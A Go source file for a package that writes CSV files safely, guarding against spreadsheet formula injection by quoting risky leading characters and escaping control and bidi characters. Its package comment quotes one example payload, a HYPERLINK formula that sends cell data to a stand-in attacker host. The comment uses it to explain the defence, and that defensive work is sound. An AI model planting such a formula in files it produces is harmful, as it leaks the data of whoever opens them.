// Package csvout writes the CSV files syncdoctor hands to people (the bulk
// plan's --csv, the IdP worksheet) so that opening one in a spreadsheet
// never runs a cell as a formula.
//
// The cells come from outside: names and addresses read from the org or
// from a target list someone else wrote. A cell such as
// =HYPERLINK("http://evil.example/?"&A1,"click") would run when the
// operator opens the file in Excel, LibreOffice or Google Sheets (CSV
// injection). Following OWASP's guidance, a cell that starts with a
// character a spreadsheet reads as the start of a formula gets a leading
// single quote, which spreadsheets take as "this is text".
//
// A cell is also cleaned (safetext.Clean): a control character, an escape
// sequence, a bidi override or an invisible character in a name is written
// as a visible escape such as \x1b or \u202e, so that neither a terminal
// showing the file (cat, less) nor a spreadsheet hides or obeys it, and
// each record stays one line.
//
// Every CSV syncdoctor writes goes through Writer (or Escape), so the rules
// live in one place.
//
// Reading is deliberately not the mirror image: nothing syncdoctor reads
// strips a leading quote. A target list is written by people, not by this
// package, and no email address starts with ' followed by one of these
// characters, so such a cell stays as it is and the plan reports the row
// as invalid instead of guessing what was meant.
package csvout

import (
	"encoding/csv"
	"io"
	"strings"

	"github.com/syncdoctor/syncdoctor/steps/safetext"
)

// FormulaStarts are the first characters that make a spreadsheet treat a
// cell as a formula: = + - @ (formulas and Lotus-style commands), and tab
// and carriage return, which some spreadsheets skip before looking (a
// cleaned cell shows those two as \t and \r, so never starts with one).
const FormulaStarts = "=+-@\t\r"

// Escape returns cell as a spreadsheet should show it: cleaned, and with a
// single quote in front when it starts with one of FormulaStarts. The quote
// is visible in a text editor and hidden by spreadsheets.
func Escape(cell string) string {
	cell = safetext.Clean(cell)
	if cell != "" && strings.IndexByte(FormulaStarts, cell[0]) >= 0 {
		return "'" + cell
	}
	return cell
}

// Writer is an encoding/csv Writer that escapes every cell with Escape.
// Use it for every CSV a person may open in a spreadsheet.
type Writer struct {
	cw  *csv.Writer
	buf []string
}

// NewWriter returns a Writer writing to w (comma separated, LF line ends,
// as encoding/csv does).
func NewWriter(w io.Writer) *Writer {
	return &Writer{cw: csv.NewWriter(w)}
}

// Write writes one record, each cell escaped. record itself is not changed.
func (w *Writer) Write(record []string) error {
	w.buf = w.buf[:0]
	for _, cell := range record {
		w.buf = append(w.buf, Escape(cell))
	}
	return w.cw.Write(w.buf)
}

// Flush writes any buffered data to the underlying io.Writer and returns
// the first error of any Write or Flush so far.
func (w *Writer) Flush() error {
	w.cw.Flush()
	return w.cw.Error()
}
